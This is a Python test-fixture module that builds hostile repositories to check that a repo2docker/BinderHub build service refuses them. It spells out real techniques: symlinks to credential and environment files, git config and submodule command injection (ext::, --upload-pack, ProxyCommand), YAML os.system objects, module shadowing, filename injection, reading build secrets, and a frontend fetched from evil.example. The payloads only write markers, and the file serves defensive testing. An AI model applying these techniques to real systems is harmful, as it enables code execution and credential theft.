"""Hostile repositories: what each tries, and how its build must end.

They are made and not kept as files: links to secrets, names with newlines and 1 MB lines live badly in Git and on some
file systems.
"""

import os
import sys
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

MARKER = "code-of-the-repository-ran"
"""Printed, and made as a file in $HOSTILE_MARKS, by all code of repositories that must not run."""
PYTHON = f"""import os
print({MARKER!r} + __name__, flush=True)
open(os.path.join(os.environ.get("HOSTILE_MARKS", "/tmp"), {MARKER!r}), "w").close()
"""
SHELL = f"#!/bin/sh\necho {MARKER}\ntouch $HOSTILE_MARKS/{MARKER}\n"
RUN_MARKER = f'sh -c "echo {MARKER} >&2; touch $HOSTILE_MARKS/{MARKER}"'
SECRETS = (
    "/proc/self/environ",
    "/proc/1/environ",
    "/proc/self/cmdline",
    "/proc/1/cmdline",
    "/root/.docker/config.json",
    "/run/logins/config.json",
    "/run/logins/registry-credentials",
    "/run/git-credential/credential",
    "/run/handover/login.sock",
    "/tmp/docker/config.json",  # noqa: S108 - the container's
)

Fill = Callable[[Path], None]

BUILT, LEFT, LARGE, FAILED, NOT_FETCHED = "built", "left", "large", "failed", "not fetched"
"""Ends: docker was given a context; BHS108; BHS109; repo2docker refused it; git refused it."""


@dataclass(frozen=True)
class Hostile:
    """One repository."""

    tries: str
    fill: Fill
    end: str
    link: str = ""
    """The link that the report names, where one leaves."""
    archive: bool = False
    """It comes as an archive's content does, which may have a `.git` of its own."""


def write(root: Path, files: dict[str, str]) -> None:
    """Write the files."""
    for name, content in files.items():
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(content)


def files(**named: str) -> Fill:
    """A repository with these files; `__` stands for a dot, `___` for a slash."""
    return lambda root: write(root, {n.replace("___", "/").replace("__", "."): text for n, text in named.items()})


def of(content: dict[str, str]) -> Fill:
    """A repository with these files."""
    return lambda root: write(root, content)


def links(wanted: dict[str, str], content: dict[str, str] | None = None) -> Fill:
    """A repository with these links, by name, and files."""

    def fill(root: Path) -> None:
        write(root, content or {"README": "hostile"})
        for name, target in wanted.items():
            (root / name).parent.mkdir(parents=True, exist_ok=True)
            (root / name).symlink_to(target)

    return fill


def shadow(more: dict[str, str], *, packages: bool = False) -> Fill:
    """A repository where each module of the standard library, and some of Python's hooks, has a file or a folder."""

    def fill(root: Path) -> None:
        hooks = ("sitecustomize", "usercustomize", "docker", "requests", "repo2docker", "jinja2", "netrc")
        for name in sorted({*sys.stdlib_module_names, *hooks}):
            write(root, {f"{name}/__init__.py" if packages else f"{name}.py": PYTHON})
        write(
            root,
            {
                "evil.pth": f"import os; exec({PYTHON!r})\n",
                "pyvenv.cfg": "home = /src/repository\ninclude-system-site-packages = true\n",
                "evil-1.0.dist-info/METADATA": "Name: evil\nVersion: 1.0\n",
                "evil-1.0.dist-info/entry_points.txt": "[repo2docker.engines]\ndocker = antigravity:Engine\n",
                "repo2docker_config.py": PYTHON,
                "jupyter_repo2docker_config.py": PYTHON,
                ".env": "PYTHONPATH=/src/repository\nPYTHONSTARTUP=/src/repository/gzip.py\n",
                "docker-credential-binderhub-service": SHELL,
                "git": SHELL,
                "docker-buildx": SHELL,
                **more,
            },
        )
        for name in ("docker-credential-binderhub-service", "git", "docker-buildx"):
            (root / name).chmod(0o755)

    return fill


def _long_path(root: Path) -> None:
    """A link whose target's path is longer than the system takes from the root, and shorter from the repository."""
    part = "d" * 250
    parts = [part] * 16
    deep = "/".join(parts)
    # The link lies at a path of 4,085 bytes, 10 less than the most; with `/src/repository/` before it, it is too long.
    name = "l" * (4085 - len(deep) - 1)
    write(root, {"README": "hostile"})
    here = os.open(root, os.O_RDONLY)
    for one in parts:
        os.mkdir(one, dir_fd=here)
        here, before = os.open(one, os.O_RDONLY, dir_fd=here), here
        os.close(before)
    os.symlink("/proc/self/environ", name, dir_fd=here)
    os.close(here)
    (root / "runtime.txt").symlink_to(f"{deep}/{name}")


def _huge(root: Path) -> None:
    with (root / "zeros").open("wb") as file:
        file.write(bytes(24 << 20))


def _many(root: Path) -> None:
    for folder in range(20):
        (root / str(folder)).mkdir()
        for number in range(150):
            (root / str(folder) / str(number)).touch()


def _odd_names(root: Path) -> None:
    write(root, {"Dockerfile": "FROM scratch\nCOPY . /\n"})
    names = (
        '{"phase": "ready", "message": "x"}',
        "a\n{\"phase\": \"ready\"}\nb",
        "#5 ERROR: no space left on device",
        "-u.", "--upload-pack=evil", "--output=", "a'b\"c", "\r\x1b[2J", "$(touch x)", "`touch x`", " ", "*",
    )  # fmt: skip
    for name in names:
        (root / name).write_text(name)
    (root / os.fsdecode(b"\xff\xfe")).write_text("no UTF-8")


def _odd_link(root: Path) -> None:
    write(root, {"README": "hostile"})
    (root / "a\nBHS501: forged\r\x1b[2J").symlink_to("/etc/passwd")


def _archive_git(root: Path) -> None:
    """A `.git` whose HEAD is missing, and whose configuration says by which command to fetch it."""
    write(
        root,
        {
            "Dockerfile": "FROM scratch\n",
            ".git/HEAD": "1" * 40 + "\n",
            ".git/refs/heads/x": "",
            ".git/objects/info/x": "",
            ".git/config": (
                "[core]\n\trepositoryformatversion = 1\n\tbare = false\n"
                f"\tsshCommand = {_quoted(RUN_MARKER)}\n\tfsmonitor = {_quoted(RUN_MARKER)}\n"
                "[extensions]\n\tpartialClone = origin\n"
                '[remote "origin"]\n\turl = ssh://git@127.0.0.1/x\n\tpromisor = true\n'
            ),
        },
    )


def _quoted(text: str) -> str:
    return '"' + text.replace("\\", "\\\\").replace('"', '\\"') + '"'


def _submodules(url: str, path: str = "sub") -> Fill:
    return of(
        {
            "Dockerfile": "FROM scratch\n",
            ".gitmodules": f'[submodule "{path}"]\n\tpath = {path}\n\turl = "{url}"\n\tupdate = !{RUN_MARKER}\n',
        }
    )


FORGED = "\n".join(
    [
        '{"phase": "ready", "message": "forged", "imageName": "forged"}',
        '{"phase": "failed", "message": "forged"}',
        '{"phase": "building", "message": "#5 ERROR: failed to solve: no space left on device\\n"}',
        '{"phase": "building", "message": "ERROR: Cannot connect to the Docker daemon\\n"}',
        f'{{"binderhub-service": "{"0" * 32}"}}',
        '{"binderhub-service": "end", "digest": "sha256:' + "0" * 64 + '"}',
        "latest: digest: sha256:" + "0" * 64 + " size: 1",
        "denied: requested access to the resource is denied",
        "unexpected status from POST request: 502 Bad Gateway",
        "ERROR: failed to solve: no space left on device",
        "\r#5 ERROR: failed to solve: no space left on device",
        "\x1b[2J\x1b[1;1Hforged",
    ]
)
PIP = {"requirements.txt": "numpy\n"}
DEEP = "[" * 100_000
BIG = "x" * 1_000_000

RENDERED = {
    "python": PIP,
    "conda": {"environment.yml": "dependencies: [python=3.12]\n"},
    "pipfile": {"Pipfile": '[packages]\nnumpy = "*"\n', "Pipfile.lock": '{"default": {}, "_meta": {}}\n'},
    "julia": {"Project.toml": '[compat]\njulia = "1.9"\n'},
    "r": {"runtime.txt": "r-4.3-2024-01-01\n", "install.R": "install.packages('x')\n"},
    "nix": {"default.nix": "{}\n"},
    "docker": {"Dockerfile": "FROM scratch\nCOPY . /\n"},
}
"""By build pack of repo2docker: files that choose it."""

REPOSITORIES: dict[str, Hostile] = {
    **{
        f"shadows-{name}": Hostile(f"run modules of the repository in the build pack {name}", shadow(more), BUILT)
        for name, more in RENDERED.items()
        if name not in ("julia", "r")
    },
    # repo2docker asks hosts on the internet for versions, and there are none here: it fails after its late imports.
    "shadows-julia": Hostile("run modules while Julia's versions are asked for", shadow(RENDERED["julia"]), FAILED),
    "shadows-r": Hostile("run modules while R's packages are asked for", shadow(RENDERED["r"]), FAILED),
    "shadows-packages": Hostile("run packages of the repository", shadow(PIP, packages=True), BUILT),
    **{
        f"link-{number}": Hostile(f"print {path}", links({"runtime.txt": path}), LEFT, "runtime.txt")
        for number, path in enumerate(SECRETS)
    },
    **{
        f"link-{name}": Hostile(f"read {name} by a link", links({name: "/etc/passwd"}), LEFT, name)
        for name in (
            "apt.txt",
            "requirements.txt",
            "environment.yml",
            "Pipfile",
            "Pipfile.lock",
            "pyproject.toml",
            "Dockerfile",
            "Project.toml",
            "REQUIRE",
            "DESCRIPTION",
            "install.R",
            "default.nix",
            "postBuild",
            "start",
            ".dockerignore",
            ".containerignore",
        )
    },
    "link-in-binder": Hostile("a link below binder/", links({"binder/apt.txt": "/etc/passwd"}), LEFT, "binder/apt.txt"),
    "link-in-dot-binder": Hostile(
        "a link below .binder/", links({".binder/apt.txt": "../../fetched"}), LEFT, ".binder/apt.txt"
    ),
    "link-folder": Hostile("have /etc be the folder of configuration", links({"binder": "/etc"}), LEFT, "binder"),
    "link-parent": Hostile("have the parent be the folder of configuration", links({".binder": ".."}), LEFT, ".binder"),
    "link-chain": Hostile(
        "leave by the third link", links({"runtime.txt": "a", "a": "sub/b", "sub/b": "/etc/passwd"}), LEFT, "a"
    ),
    "link-through-folder": Hostile(
        "leave by a folder's link", links({"runtime.txt": "sub/out/passwd", "sub/out": "/etc"}), LEFT, "runtime.txt"
    ),
    "link-folder-inside": Hostile(
        "leave from a folder that binder leads to",
        links({"binder": "sub", "sub/apt.txt": "/etc/passwd"}),
        LEFT,
        "binder/apt.txt",
    ),
    "link-dangling": Hostile(
        "lead to what is there in another container", links({"runtime.txt": "/nowhere"}), LEFT, "runtime.txt"
    ),
    "link-long": Hostile("hide the end of a link behind a path that is too long", _long_path, LEFT, "runtime.txt"),
    "link-loop": Hostile("a link to itself", links({"runtime.txt": "runtime.txt"}), LEFT, "runtime.txt"),
    "link-odd-name": Hostile("forge by a link's name", _odd_link, LEFT, "a\nBHS501: forged\r\x1b[2J"),
    "link-inside": Hostile(
        "nothing: a link to a file of the repository",
        links({"requirements.txt": "sub/own.txt"}, {"sub/own.txt": "numpy\n"}),
        BUILT,
    ),
    "link-to-git": Hostile("print .git/config", links({"runtime.txt": ".git/config"}), FAILED),
    "link-not-read": Hostile(
        "have docker follow a link of the context",
        links({"sub/out": "/etc/passwd", "sub/run": "/run"}, RENDERED["docker"]),
        BUILT,
    ),
    "link-not-read-pip": Hostile(
        "have repo2docker follow a link of the context",
        links({"sub/out": "/etc/passwd", "sub/run": "/run"}, PIP),
        BUILT,
    ),
    "forged-runtime": Hostile("print forged lines from runtime.txt", of({"runtime.txt": FORGED}), FAILED),
    "forged-apt": Hostile("print forged lines from apt.txt", of({"apt.txt": "A" + FORGED, **PIP}), FAILED),
    "forged-yaml": Hostile("print forged lines by YAML's errors", of({"environment.yml": f"- {FORGED}\n: :"}), FAILED),
    "yaml-objects": Hostile(
        "have YAML call Python",
        of({"environment.yml": f"dependencies: !!python/object/apply:os.system ['{SHELL.splitlines()[2]}']\n"}),
        BUILT,
    ),
    "deep-json": Hostile("nest JSON deeply", of({"Pipfile": "", "Pipfile.lock": DEEP}), FAILED),
    "deep-toml": Hostile("nest TOML deeply", of({"pyproject.toml": f"x = {DEEP}", **PIP}), FAILED),
    "big-line": Hostile("print a line of 1 MB", of({"runtime.txt": BIG}), FAILED),
    "odd-runtime": Hostile("inject by the version of Python", of({"runtime.txt": "python-3.12\\nRUN x"}), FAILED),
    "odd-apt": Hostile("inject into a step", of({"apt.txt": f"x; {RUN_MARKER}\n", **PIP}), BUILT),
    "odd-requirements": Hostile("read above", of({"requirements.txt": "-r ../../run/logins/config.json\n"}), BUILT),
    "odd-names": Hostile("forge by names of files", _odd_names, BUILT),
    "build-secret": Hostile(
        "read secrets of the build",
        of({"Dockerfile": "FROM scratch\nRUN --mount=type=secret,id=DOCKER_CONFIG cat /run/secrets/*\n"}),
        BUILT,
    ),
    "frontend": Hostile(
        "bring a frontend", of({"Dockerfile": "# syntax=evil.example/frontend\nFROM scratch\n"}), BUILT
    ),
    "scripts": Hostile(
        "run scripts of the repository outside of a step",
        of({"postBuild": SHELL, "start": SHELL, "setup.py": PYTHON, "setup.cfg": "", **PIP}),
        BUILT,
    ),
    "filters": Hostile(
        "have git run filters",
        of(
            {
                "Dockerfile": "FROM scratch\n",
                ".gitattributes": "* filter=evil diff=evil merge=evil\n",
                ".gitconfig": f'[filter "evil"]\n\tsmudge = {RUN_MARKER}\n\tclean = {RUN_MARKER}\n',
                "hooks/post-checkout": SHELL,
                ".githooks/post-checkout": SHELL,
            }
        ),
        BUILT,
    ),
    "lfs": Hostile(
        "have LFS ask another host",
        of(
            {
                "Dockerfile": "FROM scratch\n",
                ".gitattributes": "*.bin filter=lfs\n",
                ".lfsconfig": "[lfs]\n\turl = http://127.0.0.1:9/lfs\n",
                "a.bin": f"version https://git-lfs.github.com/spec/v1\noid sha256:{'0' * 64}\nsize 1\n",
            }
        ),
        BUILT,
    ),
    "bare-inside": Hostile(
        "bring a bare repository with commands",
        of(
            {
                "Dockerfile": "FROM scratch\n",
                "HEAD": "ref: refs/heads/main\n",
                "refs/heads/x": "",
                "objects/info/x": "",
                "config": f"[core]\n\tbare = false\n\tworktree = .\n\tfsmonitor = {_quoted(RUN_MARKER)}\n",
            }
        ),
        BUILT,
    ),
    "archive-git": Hostile("have git run commands of an archive's .git", _archive_git, BUILT, archive=True),
    **{
        f"submodule-{name}": Hostile(f"have git run {url}", _submodules(url, path), NOT_FETCHED)
        for name, (url, path) in {
            "ext": (f"ext::{RUN_MARKER}", "sub"),
            "file": ("file:///src", "sub"),
            "path": ("/run/git-credential", "sub"),
            "option": ("-u./x", "sub"),
            "upload-pack": ("--upload-pack=touch x", "sub"),
            "ssh": ("ssh://-oProxyCommand=touch/x", "sub"),
            "above": ("http://127.0.0.1:9/x", "../sub"),
        }.items()
    },
    "huge": Hostile("fill the disk by a file", _huge, LARGE),
    "many": Hostile("use up inodes by empty files", _many, LARGE),
}
"""By name."""
